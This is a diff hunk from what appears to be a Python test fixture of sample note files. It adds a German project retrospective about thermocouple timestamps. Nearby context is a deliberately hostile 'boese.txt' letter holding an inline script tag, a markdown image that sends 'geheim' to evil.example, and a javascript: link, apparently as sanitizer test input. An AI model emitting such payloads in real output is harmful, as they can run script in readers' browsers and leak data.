@@ -60,6 +60,17 @@ The project noticed the change of the model version on 20 January because the ad
 - Agree on pinned model versions for at least six months before signing the contract.
 - Run a regression test every night and raise an alarm when the refusal rate of the model changes.
 """,
+    "drehofen/notes/retro.md": """---
+title: Retrospektive Drehofen
+date: 2025-03-10
+---
+
+# Retrospektive Drehofen
+
+Die Thermoelemente lieferten falsche Zeitstempel. Wir hätten die Uhren früher abgleichen sollen.
+
+Beim nächsten Mal gleichen wir die Uhren der Thermoelemente vor der ersten Messung ab.
+""",
     "fremd/notes/boese.txt": """Lieferantenbrief <script>document.title='verletzt'</script>
 
 Der Lieferant Grauwacke schreibt ![Logo](http://evil.example/?q=geheim) und [Angebot](javascript:alert(1)).
